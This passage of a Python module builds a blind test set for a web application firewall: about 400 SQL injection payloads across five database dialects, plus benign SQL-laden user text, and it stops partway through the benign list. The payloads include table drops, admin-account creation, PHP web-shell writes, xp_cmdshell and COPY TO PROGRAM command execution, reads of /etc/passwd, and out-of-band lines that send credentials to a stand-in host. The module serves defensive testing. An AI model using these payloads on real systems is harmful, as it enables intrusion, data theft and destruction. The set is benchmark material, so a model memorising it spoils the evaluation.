"""Blind set "eleventh": SQL injection written as a database specialist would, and benign requests that share
its vocabulary.

Attacks: about 400 distinct payloads across MySQL/MariaDB, PostgreSQL, MSSQL, Oracle and SQLite grammar, grouped
in sub-families (scanner probes, boolean, union, error, time, stacked, out-of-band, catalog probing,
file/OS/privilege functions, ORDER BY / LIMIT, LIKE / IN-list, column-name / JSON-path injection points, and
evasive spellings: comments and whitespace, string building, operators and numeric edge cases). Each payload
goes into three input places (query, form, JSON, cookie, header), rotating with `three_places`, under
parameter names that fit the injection point.

Benign: what database-literate and ordinary users send with the same words: product names with quotes,
inches and semicolons, addresses, people's names with apostrophes and hyphens, ranges and comparisons in prose,
search queries, support tickets, numbers with units, developers' SQL pasted into Slack (ids
`eleventh-devsql-slack-NNNN` / `eleventh-devsql-bio-NNNN`, sub "devsql") and links to database docs.

Written independently for this repository from general knowledge of SQL dialects and of real traffic, without
reading the gateway's WAF rules, the CRS rules or their regression tests, the other blind sets' payloads, the
shared corpus or any public payload list; measured once on the finished set. Deterministic.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from .family_gen import _form, _get, _json, _query
from .family_gen_blind_php import _place, chat_and_bio, links_and_prose, three_places
from .records import print_records

# ---------------------------------------------------------------------------------------------------------------
# Attacks, by sub-family.

PROBE = [
    "'",
    '"',
    "`",
    "')",
    "'))",
    '")',
    "';",
    "1'",
    '1"',
    "1\\'",
    "'--",
    "'-- -",
    "'#",
    "1)",
    "1))-- ",
    "'||'",
    "2-1",
    "3*1",
    "1 AND 1=2",
    "1' AND '1'='2",
    "1 OR 1=1",
    "' OR ''='",
    "' AND 'x'='x",
    "1' ORDER BY 1-- -",
    "1 AND SLEEP(0)",
    "'||(SELECT '')||'",
    "' AND 1=1 --",
    "\"))-- -",
    "'||chr(65)||'",
    "' having 1=1--",
]

BOOLEAN = [
    "1 AND 1=1",
    "1 AND 3>2",
    "42 OR 1=1",
    "1' AND 'a'='a",
    "x' OR 'x'='x",
    "admin'--",
    "admin' #",
    "admin'/*",
    "' OR 1=1-- -",
    '" OR ""="',
    '") OR ("1"="1',
    "') OR ('a'='a",
    "1 AND ASCII(SUBSTRING((SELECT user()),1,1))>64",
    "1 AND (SELECT SUBSTR(banner,1,1) FROM v$version WHERE ROWNUM=1)='O'",
    "1' AND SUBSTRING(@@version,1,1)='5",
    "1 AND LENGTH(database())=8",
    "1' AND (SELECT COUNT(*) FROM users)>0-- ",
    "1 AND EXISTS(SELECT 1 FROM pg_user WHERE usesuper)",
    "1' AND (SELECT TOP 1 name FROM sysobjects) LIKE 'a%'--",
    "1 AND ORD(MID((SELECT authentication_string FROM mysql.user LIMIT 1),1,1))>100",
    "1' AND 1=(SELECT CASE WHEN (1=1) THEN 1 ELSE 0 END)-- -",
    "1 AND IIF(LEN(DB_NAME())>4,1,0)=1",
    "1 AND DECODE(USER,'SYS',1,0)=1",
    "1 AND unicode(substr(sqlite_version(),1,1))=51",
    "1' AND current_setting('is_superuser')='on",
    "1 || 1=1",
    "1' xor 'a'='b",
    "1' AND SOUNDEX('robert')=SOUNDEX('rupert') AND '1'='1",
    "' OR TRUE --",
    "1 AND (SELECT 'a' FROM dual)='a'",
    "1 AND strcmp(left(user(),1),'r')=0",
    "1 AND (ascii(lower(substr((select table_name from information_schema.tables limit 1),1,1))))>96",
    "1 AND @@version_comment LIKE '%MariaDB%'",
    "1 AND pg_backend_pid()>0",
    "1 AND IS_SRVROLEMEMBER('sysadmin')=1",
    "1 AND SYS_CONTEXT('USERENV','ISDBA')='TRUE'",
    "1' AND (SELECT password FROM users WHERE username='admin') LIKE 'a%",
    "99 AND (SELECT 1 FROM users WHERE id=1 AND substr(pass,1,1)='$')=1",
]

UNION = [
    "-1 UNION SELECT 1,2,3-- -",
    "0 UNION ALL SELECT NULL,NULL,NULL--",
    "' UNION SELECT username,password FROM users--",
    "1' UNION SELECT NULL,version()-- ",
    "-5 union select 1,group_concat(table_name),3 from information_schema.tables where table_schema=database()",
    "' UNION ALL SELECT NULL,banner FROM v$version--",
    "' UNION SELECT NULL,@@version,NULL--",
    "1 UNION SELECT sqlite_version(),NULL",
    "x' UNION SELECT name,sql FROM sqlite_master--",
    "') UNION SELECT 1,concat_ws(0x3a,user,authentication_string) FROM mysql.user-- -",
    '" UNION SELECT 1,2 #',
    "1 UNION(SELECT(1),(2))",
    "-1 UnIoN SeLeCt 1,user()",
    "0 UNION SELECT * FROM (SELECT 1)a JOIN (SELECT 2)b JOIN (SELECT 3)c",
    "' UNION SELECT NULL,string_agg(usename||':'||passwd,',') FROM pg_shadow--",
    "' UNION SELECT NULL,table_name FROM all_tables WHERE ROWNUM<5--",
    "' UNION SELECT NULL,name FROM master..sysdatabases--",
    "1 UNION SELECT TOP 1 name,NULL FROM sys.tables",
    "-1 union select 1,(select group_concat(column_name) from information_schema.columns where table_name='users')",
    "1 UNION VALUES(1,2)",
    "-1 UNION TABLE users",
    "' UNION SELECT 1,json_agg(t)::text FROM users t--",
    "-1 union select 1,2 procedure analyse()",
    "\\N union select 1,2",
    "' UNION SELECT username || '~' || password, 2 FROM users --",
    "' UNION SELECT LISTAGG(username,',') WITHIN GROUP (ORDER BY 1),NULL FROM all_users--",
    "' UNION SELECT STRING_AGG(name, ','), NULL FROM sys.databases--",
    "0)UNION(SELECT(user()),2)#",
    "9999999 UNION SELECT email, password_hash, NULL, NULL FROM accounts LIMIT 1 OFFSET 0",
    "') UNION ALL SELECT NULL,NULL,CHR(113)||CHR(120)||CHR(113) FROM DUAL--",
    "1' UNION SELECT NULL, (SELECT TOP 1 password_hash FROM dbo.Users FOR XML PATH(''))--",
    "a' UNION SELECT group_concat(name), 1 FROM pragma_table_list--",
]

ERROR = [
    "1 AND extractvalue(1,concat(0x7e,version()))",
    "1 AND updatexml(1,concat(0x3a,(select user())),1)",
    "1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(database(),FLOOR(RAND(0)*2))x "
    "FROM information_schema.tables GROUP BY x)a)",
    "1 AND exp(~(select * from (select user())x))",
    "1 AND GTID_SUBSET(CONCAT(0x7e,@@hostname),1)",
    "1 AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x7e,user())) USING utf8)))",
    "1 AND ST_LatFromGeoHash(version())",
    "1 AND polygon((select * from(select * from(select @@version)f)x))",
    "1 AND (SELECT * FROM (SELECT NAME_CONST(version(),1),NAME_CONST(version(),1))a)",
    "' AND row(1,1)>(select count(*),concat(version(),0x3a,floor(rand()*2))x "
    "from (select 1 union select 2)a group by x limit 1)-- -",
    "1 AND 1=CAST((SELECT version()) AS int)",
    "1 AND (SELECT current_database())::int=1",
    "' AND 1=cast(chr(126)||(select usename from pg_user limit 1) as numeric)--",
    "1 AND 1=query_to_xml('select usename from pg_user',true,true,'')::text::int",
    "1 AND 1=CONVERT(int,@@version)",
    "' AND 1=CONVERT(INT,(SELECT TOP 1 name FROM sys.databases))--",
    "1 AND 1=CAST(DB_NAME() AS int)",
    "' + CONVERT(int, SYSTEM_USER) + '",
    "1 AND 1/(CASE WHEN SUBSTRING(DB_NAME(),1,1)='m' THEN 1 ELSE 0 END)=1",
    "1' GROUP BY users.id HAVING 1=1--",
    "1 AND 1 = (SELECT TOP 1 CAST(name AS int) FROM sysobjects WHERE xtype='U')",
    "1 AND 1=CTXSYS.DRITHSX.SN(user,(select banner from v$version where rownum=1))",
    "1 AND 1=UTL_INADDR.GET_HOST_NAME((SELECT user FROM dual))",
    "1 AND XMLType('<:'||(SELECT user FROM dual)||'>') IS NOT NULL",
    "' AND 1=TO_NUMBER((SELECT banner FROM v$version WHERE rownum=1))--",
    "1 AND dbms_xdb_version.checkin((select user from dual)) IS NULL",
    "1 AND 1=ORDSYS.ORD_DICOM.GETMAPPINGXPATH((select user from dual),user,user)",
    "1 AND abs(-9223372036854775808)",
    "1 AND load_extension('x')",
    "1 AND 1=(SELECT upper(xmltype(chr(60)||chr(58)||user||chr(62))) FROM dual)",
    "1 AND JSON_VALUE('{\"a\":1}', CONCAT('$.', (SELECT TOP 1 name FROM sys.sql_logins)))=1",
]

TIME = [
    "1 AND SLEEP(5)",
    "1' AND SLEEP(5)-- -",
    "1' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- ",
    "' OR IF(1=1,SLEEP(5),0)#",
    "1 AND IF(ASCII(SUBSTR(user(),1,1))=114,SLEEP(3),0)",
    "1 AND BENCHMARK(5000000,MD5('a'))",
    "(SELECT SLEEP(5))",
    "1'XOR(if(now()=sysdate(),sleep(5),0))XOR'Z",
    '0"XOR(if(now()=sysdate(),sleep(6),0))XOR"Z',
    "1;SELECT pg_sleep(5)--",
    "1 AND 1=(SELECT 1 FROM pg_sleep(5))",
    "' || pg_sleep(5) || '",
    "1 AND (SELECT CASE WHEN (1=1) THEN pg_sleep(3) ELSE pg_sleep(0) END) IS NULL",
    "1 AND pg_sleep_for('5 seconds') IS NULL",
    "1; WAITFOR DELAY '0:0:5'--",
    "'; WAITFOR DELAY '00:00:05'--",
    "1 IF (1=1) WAITFOR DELAY '0:0:5'",
    "'; IF(SUBSTRING(DB_NAME(),1,1)='m') WAITFOR DELAY '0:0:4'--",
    "1 AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)",
    "' || DBMS_PIPE.RECEIVE_MESSAGE(CHR(99)||CHR(99),10) || '",
    "1 AND 1=(SELECT COUNT(*) FROM all_users t1, all_users t2, all_users t3, all_users t4)",
    "1; BEGIN DBMS_SESSION.SLEEP(5); END;--",
    "1 AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))",
    "1 AND (SELECT COUNT(*) FROM sysusers AS s1, sysusers AS s2, sysusers AS s3, sysusers AS s4)>0",
    "1 AND (SELECT count(*) FROM information_schema.columns A, information_schema.columns B, "
    "information_schema.columns C)>0",
    "1 RLIKE SLEEP(5)",
    "1 AND GET_LOCK('x',5)",
    "1' AND ELT(1=1,SLEEP(3))-- -",
    "1 AND (SELECT * FROM (SELECT(SLEEP(5)))bAKL)",
    "(select(0)from(select(sleep(7)))v)/*'+(select(0)from(select(sleep(7)))v)+'\"+"
    "(select(0)from(select(sleep(7)))v)+\"*/",
    "1 AND 1=(CASE WHEN (SELECT current_user)='postgres' THEN (SELECT 1 FROM pg_sleep(4)) ELSE 1 END)",
    "1 AND (SELECT count(*) FROM generate_series(1,50000000))>0",
    "1 AND MAKE_SET(1,SLEEP(4))",
]

STACKED = [
    "1; DROP TABLE users--",
    "'; DROP TABLE sessions; --",
    "1; INSERT INTO users(name,is_admin) VALUES('x',1)--",
    "'; UPDATE users SET role='admin' WHERE email='me@x.io'--",
    "1; DELETE FROM audit_log--",
    "1; TRUNCATE TABLE logs;--",
    "'; CREATE USER eve WITH SUPERUSER PASSWORD 'x';--",
    "1; ALTER USER postgres WITH PASSWORD 'pwned'--",
    "'; EXEC sp_addlogin 'eve','P@ss1'--",
    "'; EXEC master..sp_addsrvrolemember 'eve','sysadmin'--",
    "1; EXEC('SEL'+'ECT 1')--",
    "1; DECLARE @q varchar(99);SET @q=0x77616974666f722064656c61792027303a303a3527;EXEC(@q)--",
    "1; SET @s=CONCAT('SEL','ECT 1');PREPARE st FROM @s;EXECUTE st;--",
    "1; GRANT ALL PRIVILEGES ON *.* TO 'eve'@'%'--",
    "1; SHUTDOWN--",
    "'; SHUTDOWN WITH NOWAIT;--",
    "1; ATTACH DATABASE '/var/www/shell.php' AS s; CREATE TABLE s.t(x TEXT); "
    "INSERT INTO s.t VALUES('<?php system($_GET[0]); ?>');--",
    "1; DO $$BEGIN PERFORM pg_sleep(3); END$$;--",
    "1; BEGIN EXECUTE IMMEDIATE 'DROP TABLE users'; END;--",
    "1);DROP TABLE x;--",
    "'); DELETE FROM orders WHERE ('1'='1",
    "'; INSERT INTO mysql.user (User,Host) VALUES ('eve','%');--",
    "1;declare @x nvarchar(4000);select @x=name from sys.databases;--",
    "1; EXECUTE sp_configure 'show advanced options',1; RECONFIGURE;--",
    "1; CREATE OR REPLACE FUNCTION f() RETURNS void AS $$ $$ LANGUAGE sql;--",
    "1;SET GLOBAL general_log='ON'--",
    "1 ; MERGE INTO users u USING dual ON (1=1) WHEN MATCHED THEN UPDATE SET u.role='admin'--",
    "x'; UPDATE accounts SET balance=balance+1000 WHERE id=7; COMMIT;--",
]

OOB = [
    r"1 AND LOAD_FILE(CONCAT('\\\\',(SELECT authentication_string FROM mysql.user LIMIT 1),'.oob.example\\a'))",
    "1 AND (SELECT LOAD_FILE('//oob.example/share/a'))",
    r"' UNION SELECT 1,2 INTO OUTFILE '\\\\oob.example\\share\\x'-- -",
    r"1; EXEC master..xp_dirtree '\\oob.example\x'--",
    r"1; EXEC master..xp_fileexist '\\'+@@servername+'.oob.example\a'--",
    "'; DECLARE @h varchar(1024);SELECT @h=(SELECT TOP 1 name FROM sys.sql_logins);"
    r"EXEC('master..xp_subdirs ''\\'+@h+'.oob.example\a''')--",
    "1 AND UTL_HTTP.REQUEST('http://oob.example/'||(SELECT user FROM dual)) IS NOT NULL",
    "' || UTL_HTTP.REQUEST('http://x.oob.example/') || '",
    "1 AND (SELECT EXTRACTVALUE(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % p SYSTEM "
    "\"http://oob.example/\">%p;]>'),'/l') FROM dual) IS NULL",
    "1 AND DBMS_LDAP.INIT((SELECT user FROM dual)||'.oob.example',389) IS NOT NULL",
    "1 AND HTTPURITYPE('http://oob.example/'||user).GETCLOB() IS NOT NULL",
    "1 AND UTL_INADDR.GET_HOST_ADDRESS((SELECT name FROM v$database)||'.oob.example') IS NOT NULL",
    "1; COPY (SELECT 1) TO PROGRAM 'curl http://oob.example/$(whoami)'--",
    "1 AND (SELECT dblink_connect('host=oob.example user=a password=b dbname=c')) IS NOT NULL",
    "'; SELECT dblink_send_query('host='||current_user||'.oob.example dbname=x','select 1');--",
    "'; SELECT * FROM OPENROWSET('SQLOLEDB','server=oob.example;uid=sa;pwd=x','select 1')--",
    "1; DECLARE @o int; EXEC sp_OACreate 'MSXML2.ServerXMLHTTP',@o OUT; "
    "EXEC sp_OAMethod @o,'open',NULL,'GET','http://oob.example/';--",
    "1 UNION SELECT 1 FROM OPENDATASOURCE('SQLNCLI','Data Source=oob.example;User ID=a;Password=b')"
    ".master.dbo.sysdatabases",
]

CATALOG = [
    "1 AND (SELECT COUNT(*) FROM information_schema.tables)>0",
    "' AND EXISTS(SELECT * FROM information_schema.columns WHERE column_name='password')-- ",
    "1 AND (SELECT table_name FROM information_schema.tables WHERE table_schema=database() LIMIT 1 OFFSET 2)='users'",
    "' UNION SELECT schema_name,NULL FROM information_schema.schemata--",
    "1 AND (SELECT COUNT(*) FROM mysql.user)>0",
    "1 AND (SELECT COUNT(*) FROM mysql.innodb_table_stats)>0",
    "1 AND (SELECT table_name FROM sys.schema_table_statistics LIMIT 1) IS NOT NULL",
    "1 AND (SELECT COUNT(*) FROM pg_catalog.pg_tables WHERE schemaname='public')>0",
    "1 AND (SELECT relname FROM pg_class WHERE relkind='r' LIMIT 1)='users'",
    "' AND (SELECT string_agg(attname,',') FROM pg_attribute WHERE attrelid='users'::regclass) IS NOT NULL--",
    "1 AND (SELECT rolsuper FROM pg_roles WHERE rolname=current_user)",
    "1 AND (SELECT COUNT(*) FROM sysobjects WHERE xtype='U')>0",
    "' AND (SELECT TOP 1 name FROM syscolumns WHERE id=OBJECT_ID('users'))='pwd'--",
    "1 AND DB_NAME(0) LIKE 'm%'",
    "1 AND (SELECT name FROM master.sys.databases WHERE database_id=5)='app'",
    "1 AND HAS_DBACCESS('master')=1",
    "1 AND (SELECT COUNT(*) FROM all_tables WHERE owner='SYS')>0",
    "1 AND (SELECT column_name FROM all_tab_columns WHERE table_name='USERS' AND ROWNUM=1) IS NOT NULL",
    "1 AND (SELECT username FROM dba_users WHERE rownum=1) IS NOT NULL",
    "1 AND (SELECT granted_role FROM user_role_privs WHERE ROWNUM=1)='DBA'",
    "1 AND (SELECT global_name FROM global_name) IS NOT NULL",
    "1 AND (SELECT COUNT(*) FROM sqlite_master WHERE type='table')>0",
    "1 AND (SELECT sql FROM sqlite_schema LIMIT 1) LIKE '%CREATE%'",
    "1 AND (SELECT name FROM pragma_table_info('users') LIMIT 1)='id'",
    "' AND (SELECT COUNT(tbl_name) FROM sqlite_temp_master)=0--",
    "1 AND (SELECT GROUP_CONCAT(user,0x3a,host) FROM mysql.user) IS NOT NULL",
    "1 AND (SELECT grantee FROM information_schema.user_privileges WHERE privilege_type='FILE' LIMIT 1) IS NOT NULL",
    "1 AND (SELECT srvname FROM master..sysservers) IS NOT NULL",
    "1 AND (SELECT name FROM sys.sql_logins ORDER BY 1 OFFSET 0 ROWS FETCH NEXT 1 ROWS ONLY)='sa'",
    "1 AND (SELECT version FROM v$instance) LIKE '19%'",
]

FILE_OS = [
    "' UNION SELECT LOAD_FILE('/etc/passwd'),2-- -",
    "1 AND LOAD_FILE(0x2f6574632f706173737764) IS NOT NULL",
    "' UNION SELECT '<?php system($_GET[1]);?>',2 INTO OUTFILE '/var/www/html/x.php'-- -",
    "' UNION SELECT unhex('7f454c4602010100') INTO DUMPFILE '/usr/lib/mysql/plugin/u.so'-- -",
    "1; CREATE FUNCTION sys_exec RETURNS int SONAME 'lib_mysqludf_sys.so';--",
    "1 AND sys_eval('id') IS NOT NULL",
    "1 AND (SELECT file_priv FROM mysql.user WHERE user=substring_index(user(),'@',1))='Y'",
    "1; LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t;--",
    "1 AND pg_read_file('/etc/passwd',0,200) IS NOT NULL",
    "1 AND (SELECT pg_ls_dir('/')) IS NOT NULL",
    "1; COPY (SELECT '') TO PROGRAM 'id > /tmp/o'--",
    "1; CREATE TABLE cmd(o text); COPY cmd FROM PROGRAM 'id'; SELECT * FROM cmd;--",
    "1 AND lo_import('/etc/passwd') > 0",
    "1; SELECT lo_export(16400,'/tmp/x.so');--",
    "1; CREATE FUNCTION sys(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6','system' LANGUAGE C STRICT;--",
    "1; EXEC xp_cmdshell 'whoami'--",
    "'; EXEC master..xp_cmdshell 'powershell -c iwr http://x.example/a.ps1|iex'--",
    "1; EXEC sp_configure 'xp_cmdshell',1;RECONFIGURE;--",
    r"1; EXEC xp_regread 'HKEY_LOCAL_MACHINE','SYSTEM\CurrentControlSet\Services\MSSQLSERVER','ObjectName'--",
    r"1 AND (SELECT BulkColumn FROM OPENROWSET(BULK 'C:\Windows\win.ini', SINGLE_CLOB) x) IS NOT NULL",
    r"1; BULK INSERT t FROM 'C:\inetpub\wwwroot\web.config'--",
    "1 AND IS_MEMBER('db_owner')=1",
    "1; EXEC sp_execute_external_script @language=N'Python',@script=N'import os;os.system(\"id\")'--",
    "1 AND DBMS_JAVA.RUNJAVA('oracle/aurora/util/Wrapper /bin/sh -c id') IS NOT NULL",
    "1 AND DBMS_XSLPROCESSOR.READ2CLOB('/etc','passwd') IS NOT NULL",
    "1 AND (SELECT privilege FROM session_privs WHERE privilege='CREATE ANY PROCEDURE') IS NOT NULL",
    "1; SELECT load_extension('/tmp/evil.so','sqlite3_evil_init');--",
    "1 AND readfile('/etc/passwd') IS NOT NULL",
    "1 AND writefile('/var/www/x.php','<?php phpinfo();') > 0",
    "1 AND has_function_privilege('pg_read_file(text)','execute')",
]

ORDER_LIMIT = [
    "id ASC, (SELECT 1 FROM (SELECT SLEEP(5))x)",
    "1,(SELECT IF(1=1,1,(SELECT 1 UNION SELECT 2)))",
    "(CASE WHEN (SELECT substr(user(),1,1))='r' THEN id ELSE name END)",
    "IF(1=1,name,price)",
    "name,extractvalue(1,concat(0x5c,database()))",
    "1 desc,(select pg_sleep(4))",
    "created_at DESC NULLS LAST,(SELECT CASE WHEN current_user='postgres' THEN 1 ELSE 1/(SELECT 0) END)",
    "price LIMIT 1 UNION SELECT 1,2,3",
    "1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)",
    "5 OFFSET 0 UNION SELECT null,version()",
    "1 ORDER BY 10-- -",
    "1' ORDER BY 3#",
    "1 GROUP BY 1,2,3-- ",
    "id,(select 1 where 1=(select 1 from sysobjects where 1=convert(int,db_name())))",
    "rand(ascii(substr(user(),1,1))>100)",
    "(select 1 regexp if(1=1,1,0x00))",
    "1 ORDER BY (SELECT SLEEP(3))",
    "ASC,IF(MID(@@version,1,1)=5,SLEEP(3),1)",
    "CAST(id AS int) DESC,(SELECT 1 FROM pg_sleep(3))",
    "1 FETCH FIRST 1 ROWS ONLY UNION SELECT NULL FROM dual",
    "(CASE WHEN (ASCII(SUBSTRING(SYSTEM_USER,1,1))>64) THEN price ELSE stock END)",
    "(SELECT DECODE(SUBSTR(USER,1,1),'S',name,price) FROM dual)",
    "iif(len(db_name())>3,id,name)",
    "10 INTO OUTFILE '/tmp/rows.txt'",
    "name, (SELECT CASE WHEN sqlite_version() LIKE '3%' THEN 1 ELSE abs(-9223372036854775808) END)",
]

LIKE_IN = [
    "%' AND 1=1 AND '%'='",
    "%' OR '1'='1' -- ",
    "a%' UNION SELECT NULL,password FROM users WHERE '1' LIKE '1",
    "%' AND SLEEP(3) AND '%'='",
    "_%' ESCAPE '!' OR 1=1--",
    "%' AND (SELECT 1 FROM pg_sleep(3)) IS NULL AND '%'='",
    "%\\' OR 1=1 #",
    "x%' AND SUBSTRING(@@version,1,1) LIKE '5",
    "%') OR 1=1 -- ",
    "%' || (SELECT version()) || '%",
    "%' AND ascii(substr(user,1,1))>64 AND 'a' LIKE 'a",
    "1) OR (1=1",
    "1,2) UNION SELECT 1,2-- -",
    "1,2,3) AND 1=0 UNION ALL SELECT username,password FROM users--",
    "'a','b') OR ('x'='x",
    "1) AND (SELECT SLEEP(4)) AND (1",
    "0) OR 1 IN (SELECT 1 FROM dual)--",
    "1,(SELECT COUNT(*) FROM information_schema.tables)",
    "1) AND 1=CONVERT(int,(SELECT @@version))--",
    "1,2,3))) OR 1=1-- -",
    "NULL) OR EXISTS(SELECT 1 FROM pg_shadow)--",
]

COLUMN_JSON = [
    "name FROM users--",
    "*,(SELECT password FROM users LIMIT 1) AS p",
    "id,version()",
    "username`,`password",
    'name" FROM users;--',
    "[name]] FROM sys.sql_logins--",
    "1 AS x,(SELECT user()) AS y",
    "email, (SELECT string_agg(passwd,',') FROM pg_shadow) AS h",
    "id FROM dual UNION SELECT password FROM users--",
    "(SELECT banner FROM v$version WHERE ROWNUM=1)",
    "pg_read_file('/etc/passwd')",
    "@@version",
    "count(*) FROM users WHERE 1=1--",
    "$.price') > 0 OR (SELECT SLEEP(3)) -- ",
    "$.tags[0]') UNION SELECT 1,@@version#",
    "profile->>'role' = 'admin' OR '1'='1",
    "data->'a'; SELECT pg_sleep(3)--",
    "$.x' || (SELECT json_group_array(name) FROM sqlite_master) || '",
    "lax $.a ? (@ > 1)') OR 1=1--",
    "1' AND JSON_EXTRACT('{\"a\":1}','$.a')=1 AND SLEEP(3)-- -",
    "x' AND data::jsonb @> '{\"admin\":true}' OR '1'='1",
    "1 AND JSON_VALUE((SELECT TOP 1 name FROM sys.sql_logins FOR JSON AUTO),'$[0].name')='sa'",
    "') OR JSON_EXISTS(data,'$?(@.role==\"admin\")')--",
    "1 UNION SELECT json_object('u',user(),'v',version())",
    "1 AND (SELECT json_agg(usename) FROM pg_user)::text LIKE '%postgres%'",
    "$.\"a'); DELETE FROM carts;--\"",
]

COMMENTS_WS = [
    "1/**/AND/**/1=1",
    "1/*!AND*/1=1",
    "1/*!12345AND*/2>1",
    "-1/**/UNION/**/SELECT/**/1,2,3",
    "-1 /*!50000UNION*/ /*!50000SELECT*/ 1,2",
    "SELECT/*xyz*/password/*xyz*/FROM/*xyz*/users",
    "-1 UNION-- x\nSELECT 1,2",
    "-1 UNION#\nSELECT 1,2",
    "1'/**/oR/**/'1'='1",
    "1 AND/*--*/1=1",
    "1 /* a /* b */ c */ AND 1=1",
    "1\tAND\t1=1",
    "1\x0bOR\x0b1=1",
    "1\x0cUNION\x0cSELECT\x0c1,2",
    "-1\nunion\nselect\nnull,null",
    "1\u00a0OR\u00a01=1",
    "1AND(1)=(1)",
    "(1)or(1)=(1)",
    "'or(1)='1",
    "1'and(select(1)from(dual))='1",
    "-1 uNiOn aLl sElEcT 1,2",
    "1;EXEC[master]..[xp_cmdshell]'whoami'",
    "1)/*comment*/OR/*x*/(1=1",
]

STRING_BUILD = [
    "1 AND user()=CHAR(114,111,111,116)",
    "' OR 'ad'||'min'='admin'--",
    "' OR CONCAT('ad','min')='admin'#",
    "' + CHAR(65) + '",
    "1 AND CHR(65)||CHR(66)='AB'",
    "1 AND UNHEX('61646D696E')='admin'",
    "1 AND 0x61646d696e='admin'",
    "1 AND X'41'='A'",
    "1 AND convert_from(decode('YWRtaW4=','base64'),'UTF8')='admin'",
    "1 AND _latin1'a'='a'",
    "1 AND 'a' 'b'='ab'",
    "1 AND E'\\x41'='A'",
    "1 AND $$admin$$='admin'",
    "1 AND $q$x$q$=$q$x$q$",
    "1 AND q'[abc]'='abc'",
    "1 AND U&'\\0041'='A'",
    "1 AND CONVERT(0x61 USING utf8)='a'",
    "1 AND NCHAR(65)+NCHAR(66)='AB'",
    "1 AND printf('%c',65)='A'",
    "1 AND UTL_RAW.CAST_TO_VARCHAR2(HEXTORAW('41'))='A'",
    "' OR 1::int=1 OR '",
    "1 AND CAST('1' AS SIGNED)=1",
    "' OR username=CHAR(0x61,0x64,0x6d,0x69,0x6e)#",
    "'; EXEC(CHAR(83)+CHAR(69)+CHAR(76)+CHAR(69)+CHAR(67)+CHAR(84)+CHAR(32)+CHAR(49))--",
]

OPERATORS_NUMERIC = [
    "1 AND 1<=>1",
    "1 AND NOT 1=2",
    "1 AND !!1",
    "1 AND 4 DIV 2=2",
    "1 AND 5 MOD 2",
    "1|1",
    "1 AND ~0>1",
    "1e0UNION SELECT 1",
    "0e1union select 1,2",
    ".1union select 1",
    "1.union select 1,2",
    "1E-1OR 1=1",
    "0x1 OR 0x1",
    "9e999 OR 1=1",
    "1 OR 1e0=1",
    "1 AND (1)IN(1)",
    "1 AND 1 REGEXP 1",
    "1 AND 'a' ~ 'a'",
    "1 AND 'a' SIMILAR TO 'a'",
    "1 AND 'abc' GLOB 'a*'",
    "1 AND 2 IS DISTINCT FROM 1",
    "1 OR 1 SOUNDS LIKE 1",
    "2147483648 OR 1=1",
    "-9223372036854775809 UNION SELECT 1",
    "1 AND {fn LCASE('A')}='a'",
    "1.0e+0AND 1=1",
]

SUBFAMILIES: dict[str, list[str]] = {
    "probe": PROBE, "boolean": BOOLEAN, "union": UNION, "error": ERROR, "time": TIME, "stacked": STACKED,
    "oob": OOB, "catalog": CATALOG, "file_os": FILE_OS, "order_limit": ORDER_LIMIT, "like_in": LIKE_IN,
    "column_json": COLUMN_JSON, "comments_ws": COMMENTS_WS, "string_build": STRING_BUILD,
    "operators_numeric": OPERATORS_NUMERIC,
}

# Parameter names by injection point: where each sub-family's payloads would be typed.
NAMES = ["id", "user_id", "q", "category", "filter", "product_id", "email", "search", "ref", "account"]
NAMES_BY_SUB = {
    "order_limit": ["sort", "order", "orderby", "limit", "sort_by", "offset"],
    "like_in": ["q", "ids", "name_like", "tags", "status_in", "search"],
    "column_json": ["fields", "columns", "select", "path", "json_path", "group_by"],
}


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    i = 0
    for sub, payloads in SUBFAMILIES.items():
        names = NAMES_BY_SUB.get(sub, NAMES)
        for p in payloads:
            for place, name in three_places(i, names):
                n += 1
                yield {**_place(place, name, p), "id": f"eleventh-sqli-{sub}-{n:04d}", "category": "sqli",
                       "sub": sub, "placement": place, "payload": p}
            i += 1


# ---------------------------------------------------------------------------------------------------------------
# Benign.

# Developers' SQL pasted into Slack (also saved as bios): real snippets from code review and on-call chatter.
DEV_SQL = [
    "can someone sanity-check this before I run it on prod? `UPDATE orders SET status = 'shipped' "
    "WHERE id IN (1043, 1044, 1051);`",
    "slow query of the day: SELECT * FROM events WHERE created_at > now() - interval '7 days' ORDER BY id DESC "
    "LIMIT 50 -- seq scan on 40M rows, adding an index",
    "```\nSELECT u.email, count(o.id) AS orders\nFROM users u\nLEFT JOIN orders o ON o.user_id = u.id\n"
    "GROUP BY u.email\nHAVING count(o.id) > 3;\n```",
    "pg tip: `EXPLAIN (ANALYZE, BUFFERS) SELECT ...` tells you way more than plain EXPLAIN",
    "the migration failed with `ERROR: column \"tenant_id\" of relation \"invoices\" does not exist`, "
    "rolling back",
    "mysql> SHOW PROCESSLIST; shows ~200 sleeping connections from the worker pool, is that expected?",
    "please don't string-format SQL, use parameters: cur.execute(\"SELECT * FROM users WHERE id = %s\", (uid,))",
    "TIL sqlite's `PRAGMA journal_mode=WAL;` fixed our 'database is locked' errors in tests",
    "on MSSQL you want `SELECT TOP 10 * FROM dbo.Orders ORDER BY OrderDate DESC` - there's no LIMIT",
    "oracle folks: is `FETCH FIRST 10 ROWS ONLY` ok on 12c or do we still need ROWNUM?",
    "I keep getting `Deadlock found when trying to get lock; try restarting transaction` on the payments "
    "table around 02:00",
    "quick one: `SELECT COUNT(*) FROM users WHERE deleted_at IS NULL;` returns 18,442 on staging vs 18,440 prod",
    "the report uses CASE WHEN amount > 1000 THEN 'large' ELSE 'small' END, finance wants three buckets now",
    "@here heads up, I'm running `VACUUM (VERBOSE, ANALYZE) audit_log;` on the replica, might be slow for 10 min",
    "json question: `SELECT data->>'plan' FROM subscriptions WHERE data @> '{\"trial\": true}'` - is there "
    "a GIN index on data?",
    "in MySQL 8 `JSON_EXTRACT(payload, '$.items[0].sku')` works but `payload->>'$.items[0].sku'` is nicer",
